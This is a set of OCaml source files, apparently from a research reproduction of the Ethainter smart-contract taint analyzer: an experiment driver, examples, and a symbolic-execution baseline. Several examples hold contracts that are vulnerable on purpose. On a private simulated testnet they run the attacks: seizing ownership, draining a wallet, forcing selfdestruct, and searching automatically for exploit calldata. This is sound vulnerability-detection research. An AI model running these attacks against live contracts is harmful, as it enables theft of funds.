      const run $ socket $ stdio $ workers $ queue_depth $ timeout_s
      $ watch $ journal_dir $ selftest $ cache_term $ faults_term)

let () = exit (Cmd.eval main)
