(* Reproduce the paper's tables and figures. See DESIGN.md for the
   experiment index.

   usage: experiments [--no-cache] [--cache-dir DIR] [--faults SPEC]
                      [all|e1|t1|f6|s1|f7|te|rq2|f8a|f8b|f8c] [scale]

   The experiments share the process-wide phase-split analysis cache:
   overlapping corpora across t1/f6/f8 are analyzed once, and the f8
   ablation sweeps reuse each contract's decompilation+facts artifact
   across configs (only the fixpoint reruns). Front-end and back-end
   cache stats lines are printed at the end. --no-cache disables
   caching, --cache-dir persists entries across runs. --faults arms
   the deterministic fault-injection layer (site=rate,...:seed, see
   Ethainter_runtime.Fault) for robustness testing. *)

module E = Ethainter_experiments.Experiments
module P = Ethainter_core.Pipeline

let () =
  (* split cache flags off; the rest is the positional experiment/scale *)
  let rec parse args positional =
    match args with
    | [] -> List.rev positional
    | "--no-cache" :: rest ->
        P.set_cache_enabled false;
        parse rest positional
    | "--cache-dir" :: dir :: rest ->
        P.set_cache_dir (Some dir);
        parse rest positional
    | arg :: rest when String.length arg > 12
                       && String.sub arg 0 12 = "--cache-dir=" ->
        P.set_cache_dir
          (Some (String.sub arg 12 (String.length arg - 12)));
        parse rest positional
    | "--faults" :: spec :: rest ->
        Ethainter_core.Fault.configure (Some spec);
        parse rest positional
    | arg :: rest when String.length arg > 9
                       && String.sub arg 0 9 = "--faults=" ->
        Ethainter_core.Fault.configure
          (Some (String.sub arg 9 (String.length arg - 9)));
        parse rest positional
    | arg :: rest -> parse rest (arg :: positional)
  in
  let positional = parse (List.tl (Array.to_list Sys.argv)) [] in
  let which = match positional with w :: _ -> w | [] -> "all" in
  let scale =
    match positional with _ :: s :: _ -> float_of_string s | _ -> 1.0
  in
  let sz f = max 40 (int_of_float (float_of_int f *. scale)) in
  (match which with
  | "all" -> E.run_all ~scale ()
  | "e1" -> E.print_e1 (E.e1_kill ~size:(sz 160) ())
  | "t1" ->
      let rows, total = E.t1_flagged ~size:(sz 600) () in
      E.print_t1 rows total
  | "f6" -> E.print_f6 (E.f6_precision ~size:(sz 3600) ())
  | "s1" -> E.print_s1 (E.s1_securify ~size:(sz 300) ())
  | "f7" -> E.print_f7 (E.f7_securify2 ~size:(sz 400) ())
  | "te" -> E.print_te (E.te_teether ~size:(sz 300) ())
  | "rq2" -> E.print_rq2 (E.rq2_efficiency ~size:(sz 400) ())
  | "f8a" -> E.print_f8a (E.f8a ~size:(sz 600) ())
  | "f8b" -> E.print_f8b (E.f8b ~size:(sz 600) ())
  | "f8c" -> E.print_f8c (E.f8c ~size:(sz 600) ())
  | "stream" ->
      E.print_stream
        (E.stream
           ~contracts:(max 4 (int_of_float (16.0 *. scale)))
           ~rotations:(max 6 (int_of_float (24.0 *. scale)))
           ())
  | other ->
      Printf.eprintf
        "unknown experiment %S (expected \
         all|e1|t1|f6|s1|f7|te|rq2|f8a|f8b|f8c|stream)\n"
        other;
      exit 1);
  if P.cache_enabled () then Format.printf "%a@." P.pp_cache_stats ()
