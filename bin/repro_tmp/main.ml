(* Repro: decoded vs bytewise divergence when a CALL sits mid-block in a
   precharged block and the callee runs out of gas. *)
module U = Ethainter_word.Uint256
module State = Ethainter_evm.State
module Interp = Ethainter_evm.Interp
module B = Ethainter_evm.Bytecode
module Op = Ethainter_evm.Opcode

let () =
  let state = State.create () in
  let caller_addr = U.of_int 0x1001 in
  let callee_addr = U.of_int 0x2002 in
  let sender = U.of_int 0x9999 in
  (* callee: infinite-ish gas burner: JUMPDEST; PUSH1 0; JUMP -> loops *)
  let callee_code =
    B.assemble
      [ B.Label "top"; B.Push U.zero; B.Op Op.JUMP ]
  in
  (* caller block: PUSH 0 (retlen) PUSH 0 (retoff) PUSH 0 (argslen)
     PUSH 0 (argsoff) PUSH 0 (value) PUSH callee PUSH gas CALL ;
     PUSH 0 PUSH 0 RETURN  — all one basic block (CALL not terminator) *)
  let caller_code =
    B.assemble
      [ B.Push U.zero; B.Push U.zero; B.Push U.zero; B.Push U.zero;
        B.Push U.zero; B.Push callee_addr; B.Push U.zero; B.Op Op.CALL;
        B.Push U.zero; B.Push U.zero; B.Op Op.RETURN ]
  in
  State.set_code state caller_addr caller_code;
  State.set_code state callee_addr callee_code;
  State.set_balance state sender (U.of_int 1_000_000);
  let run engine =
    let st = State.copy state in
    let r =
      Interp.call_full ~engine ~gas:1000 st ~caller:sender
        ~target:caller_addr ~value:U.zero ~calldata:""
    in
    (r.Interp.outcome, r.Interp.gas_used, List.length r.Interp.tx_trace)
  in
  let show (o, g, t) =
    let os =
      match o with
      | Interp.Returned s -> Printf.sprintf "Returned(%d bytes)" (String.length s)
      | Interp.Reverted _ -> "Reverted"
      | Interp.Failed m -> "Failed(" ^ m ^ ")"
    in
    Printf.sprintf "%s gas_used=%d trace_len=%d" os g t
  in
  let d = run Interp.Decoded and b = run Interp.Bytewise in
  Printf.printf "decoded : %s\nbytewise: %s\n" (show d) (show b);
  if d = b then print_endline "IDENTICAL" else print_endline "DIVERGED"
