(* A Parity-wallet-style incident (§1, §3.1): a library with a
   misplaced, publicly callable initializer that re-assigns the owner —
   the root cause of the $280M hack the paper cites as motivation.

   Ethainter flags the "tainted owner variable", and we confirm the
   attack dynamically: re-initialize, then drain via the owner-guarded
   sweep. Run with: dune exec examples/parity_wallet.exe *)

module U = Ethainter_word.Uint256
module T = Ethainter_chain.Testnet

let wallet_src = {|
contract WalletLibrary {
  address owner;
  uint256 dailyLimit;

  // The infamous misplaced initializer: public, callable at any time.
  function initWallet(address o, uint256 limit) public {
    owner = o;
    dailyLimit = limit;
  }

  function deposit() public payable { }

  function sweep(address dest) public {
    require(msg.sender == owner);
    call_value(dest, this.balance);
  }

  function kill(address beneficiary) public {
    require(msg.sender == owner);
    selfdestruct(beneficiary);
  }
}|}

let () =
  let runtime = Ethainter_minisol.Codegen.compile_source_runtime wallet_src in
  let result = Ethainter_core.Pipeline.(run (request (Runtime runtime))) in
  print_endline "Ethainter reports (Parity-style wallet):";
  List.iter
    (fun r ->
      Printf.printf "  %s\n" (Ethainter_core.Vulns.report_to_string r))
    result.Ethainter_core.Pipeline.reports;

  (* dynamic confirmation *)
  let net = T.create () in
  let deployer = T.account_of_seed "multisig-owner" in
  let attacker = T.account_of_seed "attacker" in
  T.fund_account net deployer (U.of_string "10000000000000000000");
  T.fund_account net attacker (U.of_string "1000000000000000000");
  let initcode = Ethainter_minisol.Codegen.compile_source wallet_src in
  let r = T.deploy net ~from:deployer initcode in
  let wallet = match r.T.created with Some a -> a | None -> assert false in
  (* legitimate setup and funding *)
  ignore
    (T.call_fn net ~from:deployer ~to_:wallet "initWallet(address,uint256)"
       [ deployer; U.of_int 1000 ]);
  ignore
    (T.call_fn net ~from:deployer ~to_:wallet
       ~value:(U.of_string "5000000000000000000") "deposit()" []);
  Printf.printf "wallet funded with %s wei\n"
    (U.to_decimal (Ethainter_evm.State.balance (T.state net) wallet));

  (* the attack: re-initialize, then drain *)
  let before = Ethainter_evm.State.balance (T.state net) attacker in
  ignore
    (T.call_fn net ~from:attacker ~to_:wallet "initWallet(address,uint256)"
       [ attacker; U.of_int 1000 ]);
  let sweep = T.call_fn net ~from:attacker ~to_:wallet "sweep(address)" [ attacker ] in
  let after = Ethainter_evm.State.balance (T.state net) attacker in
  Printf.printf "re-init + sweep %s; attacker gained %s wei\n"
    (if T.succeeded sweep then "succeeded" else "failed")
    (U.to_decimal (U.sub after before))
