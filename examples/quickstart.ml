(* Quickstart: compile a contract, analyze it, read the reports.

   Run with: dune exec examples/quickstart.exe *)

let source = {|
contract Wallet {
  address owner;
  constructor() { owner = msg.sender; }

  // BUG: anyone can become the owner.
  function claim(address who) public { owner = who; }

  function kill() public {
    require(msg.sender == owner);
    selfdestruct(owner);
  }
}|}

let () =
  (* 1. Compile MiniSol to EVM runtime bytecode. *)
  let runtime = Ethainter_minisol.Codegen.compile_source_runtime source in
  Printf.printf "compiled: %d bytes of EVM bytecode\n" (String.length runtime);

  (* 2. Run the Ethainter pipeline: decompile to 3-address code, build
        guard/data-structure facts, run the composite taint fixpoint. *)
  let result = Ethainter_core.Pipeline.(run (request (Runtime runtime))) in
  Printf.printf "decompiled to %d statements in %d blocks\n"
    result.Ethainter_core.Pipeline.tac_loc
    result.Ethainter_core.Pipeline.blocks;

  (* 3. Inspect reports. *)
  List.iter
    (fun r ->
      Printf.printf "FLAGGED: %s\n" (Ethainter_core.Vulns.report_to_string r))
    result.Ethainter_core.Pipeline.reports;

  (* 4. The same contract with the setter guarded is clean. *)
  let fixed =
    Ethainter_minisol.Codegen.compile_source_runtime {|
contract Wallet {
  address owner;
  constructor() { owner = msg.sender; }
  function claim(address who) public {
    require(msg.sender == owner);
    owner = who;
  }
  function kill() public {
    require(msg.sender == owner);
    selfdestruct(owner);
  }
}|}
  in
  let result' = Ethainter_core.Pipeline.(run (request (Runtime fixed))) in
  Printf.printf "fixed contract: %d report(s)\n"
    (List.length result'.Ethainter_core.Pipeline.reports)
