(* The §3.5 scenario: the 0x-exchange staticcall bug.

   A signature-validation helper calls a wallet via STATICCALL with the
   output buffer overlapping the input buffer. If the callee returns
   fewer than 32 bytes, the "output" read back is just the attacker's
   own input — the check validates anything. The fixed pattern guards
   on RETURNDATASIZE.

   We show (a) Ethainter flagging the unchecked variant and passing the
   checked one, and (b) the bug actually firing on-chain: a wallet that
   returns nothing "validates" a forged signature.

   Run with: dune exec examples/staticcall_check.exe *)

module U = Ethainter_word.Uint256
module T = Ethainter_chain.Testnet

let unchecked_src = {|
contract ExchangeUnchecked {
  function isValidSignature(address wallet) public {
    staticcall_unchecked(wallet);
  }
}|}

let checked_src = {|
contract ExchangeChecked {
  function isValidSignature(address wallet) public {
    staticcall_checked(wallet);
  }
}|}

let analyze name src =
  let runtime = Ethainter_minisol.Codegen.compile_source_runtime src in
  let r = Ethainter_core.Pipeline.(run (request (Runtime runtime))) in
  Printf.printf "%-20s %s\n" name
    (match r.Ethainter_core.Pipeline.reports with
    | [] -> "clean"
    | reports ->
        String.concat "; "
          (List.map Ethainter_core.Vulns.report_to_string reports))

let () =
  analyze "unchecked variant:" unchecked_src;
  analyze "checked variant:" checked_src;

  (* dynamic demonstration: a "wallet" that returns 0 bytes of data *)
  let net = T.create () in
  let user = T.account_of_seed "user" in
  T.fund_account net user (U.of_string "1000000000000000000");
  (* the degenerate wallet: runtime code = STOP (returns no data) *)
  let stop_wallet = T.deploy_runtime net ~from:user "\x00" in
  let wallet_addr =
    match stop_wallet.T.created with Some a -> a | None -> assert false
  in
  let exch = T.deploy net ~from:user
      (Ethainter_minisol.Codegen.compile_source unchecked_src) in
  let exch_addr =
    match exch.T.created with Some a -> a | None -> assert false
  in
  let r =
    T.call_fn net ~from:user ~to_:exch_addr "isValidSignature(address)"
      [ wallet_addr ]
  in
  Printf.printf
    "unchecked exchange called with a 0-byte-returning wallet: %s\n"
    (if T.succeeded r then
       "call accepted — input read back as output (the §3.5 bug)"
     else "rejected");
  let exch2 = T.deploy net ~from:user
      (Ethainter_minisol.Codegen.compile_source checked_src) in
  let exch2_addr =
    match exch2.T.created with Some a -> a | None -> assert false
  in
  let r2 =
    T.call_fn net ~from:user ~to_:exch2_addr "isValidSignature(address)"
      [ wallet_addr ]
  in
  Printf.printf "checked exchange, same wallet: %s\n"
    (if T.succeeded r2 then "accepted (?!)"
     else "reverted — returndatasize guard caught it")
