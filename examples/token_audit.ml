(* Auditing an ERC-20-style token: the §6.2 comparison scenario.

   The token's balance updates compile to hash-derived storage writes
   guarded by sender-keyed lookups. Ethainter's data-structure modeling
   (Fig. 4) recognizes them and stays quiet; the Securify baseline,
   which models neither data structures nor guard semantics, floods the
   report with "unrestricted write" / "missing input validation".

   Run with: dune exec examples/token_audit.exe *)

let token_src = {|
contract Token {
  mapping(address => uint256) balances;
  mapping(address => mapping(address => uint256)) allowed;
  address owner;
  uint256 totalSupply;
  constructor() { owner = msg.sender; totalSupply = 1000000; }
  function transfer(address to, uint256 amount) public {
    require(balances[msg.sender] >= amount);
    balances[to] = balances[to] + amount;
    balances[msg.sender] = balances[msg.sender] - amount;
  }
  function approve(address spender, uint256 amount) public {
    allowed[msg.sender][spender] = amount;
  }
  function transferFrom(address from, address to, uint256 amount) public {
    require(balances[from] >= amount);
    require(allowed[from][msg.sender] >= amount);
    balances[to] = balances[to] + amount;
    balances[from] = balances[from] - amount;
    allowed[from][msg.sender] = allowed[from][msg.sender] - amount;
  }
  function mint(address to, uint256 amount) public {
    require(msg.sender == owner);
    balances[to] = balances[to] + amount;
    totalSupply = totalSupply + amount;
  }
}|}

(* The same token with the §3.1-style bug injected: a public setter on
   the minting authority. *)
let broken_src = {|
contract BrokenToken {
  mapping(address => uint256) balances;
  address owner;
  uint256 totalSupply;
  function setOwner(address o) public { owner = o; }
  function mint(address to, uint256 amount) public {
    require(msg.sender == owner);
    balances[to] = balances[to] + amount;
    totalSupply = totalSupply + amount;
  }
}|}

let audit name src =
  Printf.printf "=== %s ===\n" name;
  let runtime = Ethainter_minisol.Codegen.compile_source_runtime src in
  let eth = Ethainter_core.Pipeline.(run (request (Runtime runtime))) in
  (if eth.Ethainter_core.Pipeline.reports = [] then
     print_endline "Ethainter: clean"
   else
     List.iter
       (fun r ->
         Printf.printf "Ethainter: %s\n"
           (Ethainter_core.Vulns.report_to_string r))
       eth.Ethainter_core.Pipeline.reports);
  let sec = Ethainter_baselines.Securify.analyze runtime in
  Printf.printf "Securify baseline: %d finding(s) (%d unrestricted-write, %d missing-input-validation)\n"
    (List.length sec.Ethainter_baselines.Securify.findings)
    (Ethainter_baselines.Securify.count_pattern sec "unrestricted-write")
    (Ethainter_baselines.Securify.count_pattern sec "missing-input-validation")

let () =
  audit "well-guarded token" token_src;
  audit "token with public owner setter" broken_src
