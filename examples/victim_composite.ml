(* The paper's Section 2 scenario, end to end:

   1. deploy the Victim contract on a private testnet;
   2. Ethainter statically detects the composite vulnerability;
   3. Ethainter-Kill exploits it automatically — the four-step
      escalation (register as user, refer self as admin, take
      ownership, kill) — and verifies the destruction in the VM trace.

   Run with: dune exec examples/victim_composite.exe *)

module U = Ethainter_word.Uint256
module T = Ethainter_chain.Testnet

let victim_src = {|
contract Victim {
  mapping(address => bool) admins;
  mapping(address => bool) users;
  address owner;

  modifier onlyAdmins { require(admins[msg.sender]); _; }
  modifier onlyUsers { require(users[msg.sender]); _; }

  constructor() { owner = msg.sender; }

  function registerSelf() public { users[msg.sender] = true; }
  function referUser(address user) public onlyUsers { users[user] = true; }
  // BUG: should be onlyAdmins — the paper's copy-paste mistake.
  function referAdmin(address adm) public onlyUsers { admins[adm] = true; }
  function changeOwner(address o) public onlyAdmins { owner = o; }
  function kill() public onlyAdmins { selfdestruct(owner); }
}|}

let () =
  (* --- static detection --- *)
  let runtime = Ethainter_minisol.Codegen.compile_source_runtime victim_src in
  let result = Ethainter_core.Pipeline.(run (request (Runtime runtime))) in
  print_endline "Ethainter reports:";
  List.iter
    (fun r ->
      Printf.printf "  %s\n" (Ethainter_core.Vulns.report_to_string r))
    result.Ethainter_core.Pipeline.reports;

  (* --- deployment on a private fork --- *)
  let net = T.create () in
  let deployer = T.account_of_seed "deployer" in
  let attacker = T.account_of_seed "attacker" in
  T.fund_account net deployer (U.of_string "1000000000000000000");
  T.fund_account net attacker (U.of_string "1000000000000000000");
  let initcode = Ethainter_minisol.Codegen.compile_source victim_src in
  let r = T.deploy net ~from:deployer ~value:(U.of_int 777) initcode in
  let victim =
    match r.T.created with Some a -> a | None -> failwith "deploy failed"
  in
  Printf.printf "\nVictim deployed at %s (balance %s wei)\n" (U.to_hex victim)
    (U.to_decimal (Ethainter_evm.State.balance (T.state net) victim));

  (* a direct kill attempt by the attacker fails: the guard holds *)
  let direct = T.call_fn net ~from:attacker ~to_:victim "kill()" [] in
  Printf.printf "direct kill(): %s\n"
    (if T.succeeded direct then "succeeded (?!)" else "reverted, as expected");

  (* --- automatic exploitation --- *)
  let attempt =
    Ethainter_kill.Kill.attack net ~attacker ~victim
      result.Ethainter_core.Pipeline.reports
  in
  Printf.printf "Ethainter-Kill: %s after %d transactions\n"
    (Ethainter_kill.Kill.outcome_to_string attempt.Ethainter_kill.Kill.a_outcome)
    attempt.Ethainter_kill.Kill.a_txs_sent;
  Printf.printf "victim alive: %b; attacker balance now %s wei\n"
    (T.is_alive net victim)
    (U.to_decimal (Ethainter_evm.State.balance (T.state net) attacker))
