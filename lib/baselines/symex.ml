(** A bounded symbolic executor over EVM bytecode — the engine behind
    our teEther baseline (§6.2).

    Explores execution paths of a contract from a fresh-deploy state
    (storage reads of unwritten slots yield the slot's initial value),
    collecting path constraints over symbolic transaction inputs
    (calldata words, caller, call value). When a target instruction is
    reached, a simple model-finding procedure tries to produce concrete
    calldata satisfying the constraints — an {e exploit}, in teEther's
    sense.

    Characteristic limits, shared with real symbolic-execution tools
    and load-bearing for the paper's comparison:
    - single-transaction reasoning only: "systems that employ symbolic
      execution tend not to consider value flow across multiple
      transactions" (§6.4), so composite vulnerabilities are missed;
    - path/step budgets: loops and large dispatchers exhaust them
      (timeouts and exceptions in the paper's Table of §6.2). *)

module U = Ethainter_word.Uint256
module Op = Ethainter_evm.Opcode
module B = Ethainter_evm.Bytecode

type sexpr =
  | SConst of U.t
  | SInput of int          (** calldata word at byte offset *)
  | SCaller
  | SCallvalue
  | SStorage of U.t        (** initial value of a storage slot *)
  | SOp of Op.t * sexpr list
  | SHash of sexpr list
  | STop                   (** unknown *)

type constr = { expr : sexpr; truthy : bool }

type path = {
  constraints : constr list;
  storage_writes : (U.t * sexpr) list; (* along this path *)
  target_pc : int;
  beneficiary : sexpr option; (* selfdestruct operand *)
}

type budget = {
  mutable steps : int;
  mutable paths : int;
}

exception Budget_exhausted

let default_max_steps = 40_000
let default_max_paths = 256

(* ---------------- concrete evaluation under a model ---------------- *)

type model = {
  caller : U.t;
  callvalue : U.t;
  inputs : (int * U.t) list; (* calldata word offset -> value *)
  initial_storage : U.t -> U.t;
}

let rec eval (m : model) (e : sexpr) : U.t option =
  match e with
  | SConst c -> Some c
  | SCaller -> Some m.caller
  | SCallvalue -> Some m.callvalue
  | SInput off -> Some (try List.assoc off m.inputs with Not_found -> U.zero)
  | SStorage slot -> Some (m.initial_storage slot)
  | SHash args ->
      let rec all = function
        | [] -> Some []
        | a :: r -> (
            match (eval m a, all r) with
            | Some v, Some vs -> Some (v :: vs)
            | _ -> None)
      in
      (match all args with
      | Some vs ->
          Some
            (Ethainter_crypto.Keccak.hash_word
               (String.concat "" (List.map U.to_bytes vs)))
      | None -> None)
  | STop -> None
  | SOp (op, args) -> (
      let rec all = function
        | [] -> Some []
        | a :: r -> (
            match (eval m a, all r) with
            | Some v, Some vs -> Some (v :: vs)
            | _ -> None)
      in
      match all args with
      | None -> None
      | Some vs -> (
          match (op, vs) with
          | Op.ADD, [ a; b ] -> Some (U.add a b)
          | Op.SUB, [ a; b ] -> Some (U.sub a b)
          | Op.MUL, [ a; b ] -> Some (U.mul a b)
          | Op.DIV, [ a; b ] -> Some (U.div a b)
          | Op.MOD, [ a; b ] -> Some (U.rem a b)
          | Op.EXP, [ a; b ] -> Some (U.exp a b)
          | Op.AND, [ a; b ] -> Some (U.logand a b)
          | Op.OR, [ a; b ] -> Some (U.logor a b)
          | Op.XOR, [ a; b ] -> Some (U.logxor a b)
          | Op.NOT, [ a ] -> Some (U.lognot a)
          | Op.ISZERO, [ a ] -> Some (U.of_bool (U.is_zero a))
          | Op.EQ, [ a; b ] -> Some (U.of_bool (U.equal a b))
          | Op.LT, [ a; b ] -> Some (U.of_bool (U.lt a b))
          | Op.GT, [ a; b ] -> Some (U.of_bool (U.gt a b))
          | Op.SLT, [ a; b ] -> Some (U.of_bool (U.slt a b))
          | Op.SGT, [ a; b ] -> Some (U.of_bool (U.sgt a b))
          | Op.SHL, [ a; b ] ->
              Some (if U.fits_int a then U.shift_left b (U.to_int a) else U.zero)
          | Op.SHR, [ a; b ] ->
              Some (if U.fits_int a then U.shift_right b (U.to_int a) else U.zero)
          | Op.BYTE, [ a; b ] -> Some (U.byte a b)
          | _ -> None))

let check_model (m : model) (cs : constr list) : bool =
  List.for_all
    (fun c ->
      match eval m c.expr with
      | Some v -> U.to_bool v = c.truthy
      | None -> false)
    cs

(* ---------------- model finding ----------------

   A propagation-based heuristic solver: walk the constraints binding
   input words / the caller whenever a truthy equality pins one side to
   a computable value, then verify the candidate model by concrete
   evaluation. Several seeds are tried. Sound (never claims SAT
   wrongly — models are checked), incomplete (may miss SAT). *)

let find_model ?(attacker = U.of_int 0xa77ac8e5) (cs : constr list)
    ~(initial_storage : U.t -> U.t) : model option =
  let try_with (seed_inputs : (int * U.t) list) (caller : U.t) =
    (* iterate binding propagation *)
    let inputs = ref seed_inputs in
    let caller = ref caller in
    let progress = ref true in
    let rounds = ref 0 in
    while !progress && !rounds < 8 do
      progress := false;
      incr rounds;
      List.iter
        (fun c ->
          if c.truthy then
            match c.expr with
            | SOp (Op.EQ, [ a; b ]) -> (
                let m =
                  { caller = !caller; callvalue = U.zero; inputs = !inputs;
                    initial_storage }
                in
                match (a, b, eval m a, eval m b) with
                | SInput off, _, _, Some v
                  when not (List.mem_assoc off !inputs) ->
                    inputs := (off, v) :: !inputs;
                    progress := true
                | _, SInput off, Some v, _
                  when not (List.mem_assoc off !inputs) ->
                    inputs := (off, v) :: !inputs;
                    progress := true
                | SCaller, _, _, Some v when not (U.equal !caller v) ->
                    caller := v;
                    progress := true
                | _, SCaller, Some v, _ when not (U.equal !caller v) ->
                    caller := v;
                    progress := true
                (* selector matching: EQ(const, SHR(224, input0)) *)
                | SConst sel, SOp (Op.SHR, [ SConst sh; SInput off ]), _, _
                | SOp (Op.SHR, [ SConst sh; SInput off ]), SConst sel, _, _
                  when U.equal sh (U.of_int 224)
                       && not (List.mem_assoc off !inputs) ->
                    inputs := (off, U.shift_left sel 224) :: !inputs;
                    progress := true
                | _ -> ())
            | _ -> ())
        cs
    done;
    let m =
      { caller = !caller; callvalue = U.zero; inputs = !inputs;
        initial_storage }
    in
    if check_model m cs then Some m else None
  in
  (* seeds: plain attacker; attacker with argument words set to the
     attacker's address (covers selfdestruct(arg) exploitation). The
     caller is always the attacker's address — an exploit transaction
     must be signable, so models with caller = 0 are not admissible. *)
  let arg_words = List.init 4 (fun i -> (4 + (32 * i), attacker)) in
  let check_caller = function
    | Some (m : model) when U.equal m.caller attacker -> Some m
    | _ -> None
  in
  let candidates =
    [ check_caller (try_with [] attacker);
      check_caller (try_with arg_words attacker) ]
  in
  List.find_map (fun x -> x) candidates

(* ---------------- the executor ---------------- *)

type sym_state = {
  pc : int;
  stack : sexpr list;
  memory : (int * sexpr) list; (* constant-offset cells *)
  storage : (U.t * sexpr) list; (* written along this path *)
  pcs : constr list;
  depth : int;
}

(** Explore paths; return every reached occurrence of [target_op] with
    its path. [init_storage] supplies symbolic initial storage (default:
    the fresh-contract all-zero state). *)
let explore ?(max_steps = default_max_steps) ?(max_paths = default_max_paths)
    ?(target_op = Op.SELFDESTRUCT) (code : string) : path list * bool =
  (* jump-target validity from the shared pre-decoded program (cache
     hit whenever the interpreter or decompiler saw this code first) *)
  let prog = Ethainter_evm.Program.of_code code in
  let valid_dest d = Ethainter_evm.Program.is_jumpdest prog d in
  let n = String.length code in
  let budget = { steps = 0; paths = 0 } in
  let results = ref [] in
  let exhausted = ref false in
  let mem_get mem off = try List.assoc off mem with Not_found -> SConst U.zero in
  let rec step (st : sym_state) =
    if budget.steps > max_steps || budget.paths > max_paths then begin
      exhausted := true;
      raise Budget_exhausted
    end;
    budget.steps <- budget.steps + 1;
    if st.pc >= n then ()
    else begin
      let byte = Char.code code.[st.pc] in
      let op = match Op.of_byte byte with Some o -> o | None -> Op.INVALID in
      let next = st.pc + 1 + Op.immediate_size op in
      let pop st =
        match st.stack with
        | x :: r -> (x, { st with stack = r })
        | [] -> (STop, st)
      in
      let pop2 st =
        let a, st = pop st in
        let b, st = pop st in
        (a, b, st)
      in
      let push st e = { st with stack = e :: st.stack } in
      let binop o =
        let a, b, st = pop2 st in
        step { (push st (SOp (o, [ a; b ]))) with pc = next }
      in
      match op with
      | Op.STOP | Op.RETURN | Op.REVERT | Op.INVALID -> ()
      | Op.SELFDESTRUCT ->
          let b, st' = pop st in
          if target_op = Op.SELFDESTRUCT then
            results :=
              { constraints = st.pcs; storage_writes = st.storage;
                target_pc = st.pc; beneficiary = Some b }
              :: !results;
          ignore st'
      | Op.PUSH k ->
          let avail = min k (n - st.pc - 1) in
          let data =
            (if avail > 0 then String.sub code (st.pc + 1) avail else "")
            ^ String.make (k - avail) '\000'
          in
          step { (push st (SConst (U.of_bytes data))) with pc = next }
      | Op.DUP k ->
          let e = try List.nth st.stack (k - 1) with _ -> STop in
          step { (push st e) with pc = next }
      | Op.SWAP k ->
          let arr = Array.of_list st.stack in
          if Array.length arr > k then begin
            let t = arr.(0) in
            arr.(0) <- arr.(k);
            arr.(k) <- t;
            step { st with stack = Array.to_list arr; pc = next }
          end
          else step { st with pc = next }
      | Op.POP ->
          let _, st = pop st in
          step { st with pc = next }
      | Op.JUMPDEST -> step { st with pc = next }
      | Op.CALLER -> step { (push st SCaller) with pc = next }
      | Op.CALLVALUE -> step { (push st SCallvalue) with pc = next }
      | Op.CALLDATALOAD ->
          let off, st = pop st in
          let e =
            match off with
            | SConst c when U.fits_int c -> SInput (U.to_int c)
            | _ -> STop
          in
          step { (push st e) with pc = next }
      | Op.CALLDATASIZE ->
          (* enough data for any dispatch *)
          step { (push st (SConst (U.of_int 132))) with pc = next }
      | Op.SLOAD ->
          let slot, st = pop st in
          let e =
            match slot with
            | SConst c -> (
                match List.assoc_opt c st.storage with
                | Some v -> v
                | None -> SStorage c)
            | SHash _ -> SConst U.zero (* untouched mapping entry *)
            | _ -> STop
          in
          step { (push st e) with pc = next }
      | Op.SSTORE ->
          let slot, v, st = pop2 st in
          let storage =
            match slot with
            | SConst c -> (c, v) :: st.storage
            | _ -> st.storage
          in
          step { st with storage; pc = next }
      | Op.MSTORE ->
          let off, v, st = pop2 st in
          let memory =
            match off with
            | SConst c when U.fits_int c -> (U.to_int c, v) :: st.memory
            | _ -> st.memory
          in
          step { st with memory; pc = next }
      | Op.MLOAD ->
          let off, st = pop st in
          let e =
            match off with
            | SConst c when U.fits_int c -> mem_get st.memory (U.to_int c)
            | _ -> STop
          in
          step { (push st e) with pc = next }
      | Op.SHA3 ->
          let off, len, st = pop2 st in
          let e =
            match (off, len) with
            | SConst o, SConst l
              when U.fits_int o && U.fits_int l
                   && U.to_int l mod 32 = 0 && U.to_int l / 32 <= 4 ->
                let o = U.to_int o and words = U.to_int l / 32 in
                SHash (List.init words (fun i -> mem_get st.memory (o + (32 * i))))
            | _ -> STop
          in
          step { (push st e) with pc = next }
      | Op.JUMP -> (
          let tgt, st = pop st in
          match tgt with
          | SConst c when U.fits_int c && valid_dest (U.to_int c) ->
              step { st with pc = U.to_int c }
          | _ -> () (* unresolvable jump: path ends *))
      | Op.JUMPI -> (
          let tgt, cond, st = pop2 st in
          budget.paths <- budget.paths + 1;
          let taken =
            match tgt with
            | SConst c when U.fits_int c && valid_dest (U.to_int c) ->
                Some (U.to_int c)
            | _ -> None
          in
          (* prune constant conditions *)
          match cond with
          | SConst c ->
              if U.to_bool c then (
                match taken with
                | Some t -> step { st with pc = t }
                | None -> ())
              else step { st with pc = next }
          | _ ->
              (match taken with
              | Some t ->
                  step
                    { st with pc = t; depth = st.depth + 1;
                      pcs = { expr = cond; truthy = true } :: st.pcs }
              | None -> ());
              step
                { st with pc = next; depth = st.depth + 1;
                  pcs = { expr = cond; truthy = false } :: st.pcs })
      | Op.ADD -> binop Op.ADD
      | Op.SUB -> binop Op.SUB
      | Op.MUL -> binop Op.MUL
      | Op.DIV -> binop Op.DIV
      | Op.MOD -> binop Op.MOD
      | Op.EXP -> binop Op.EXP
      | Op.AND -> binop Op.AND
      | Op.OR -> binop Op.OR
      | Op.XOR -> binop Op.XOR
      | Op.EQ -> binop Op.EQ
      | Op.LT -> binop Op.LT
      | Op.GT -> binop Op.GT
      | Op.SLT -> binop Op.SLT
      | Op.SGT -> binop Op.SGT
      | Op.SHL -> binop Op.SHL
      | Op.SHR -> binop Op.SHR
      | Op.BYTE -> binop Op.BYTE
      | Op.ISZERO ->
          let a, st = pop st in
          step { (push st (SOp (Op.ISZERO, [ a ]))) with pc = next }
      | Op.NOT ->
          let a, st = pop st in
          step { (push st (SOp (Op.NOT, [ a ]))) with pc = next }
      | Op.ADDRESS | Op.ORIGIN | Op.GASPRICE | Op.COINBASE | Op.TIMESTAMP
      | Op.NUMBER | Op.DIFFICULTY | Op.GASLIMIT | Op.CHAINID
      | Op.SELFBALANCE | Op.MSIZE | Op.GAS | Op.PC | Op.CODESIZE
      | Op.RETURNDATASIZE ->
          step { (push st STop) with pc = next }
      | Op.BALANCE | Op.EXTCODESIZE | Op.EXTCODEHASH | Op.BLOCKHASH ->
          let _, st = pop st in
          step { (push st STop) with pc = next }
      | Op.CALLDATACOPY | Op.CODECOPY | Op.RETURNDATACOPY ->
          let _, _, st = pop2 st in
          let _, st = pop st in
          step { st with pc = next }
      | Op.EXTCODECOPY ->
          let _, _, st = pop2 st in
          let _, _, st = pop2 st in
          step { st with pc = next }
      | Op.MSTORE8 ->
          let _, _, st = pop2 st in
          step { st with pc = next }
      | Op.LOG k ->
          let st = ref st in
          for _ = 1 to k + 2 do
            let _, st' = pop !st in
            st := st'
          done;
          step { !st with pc = next }
      | Op.CREATE ->
          let _, _, st = pop2 st in
          let _, st = pop st in
          step { (push st STop) with pc = next }
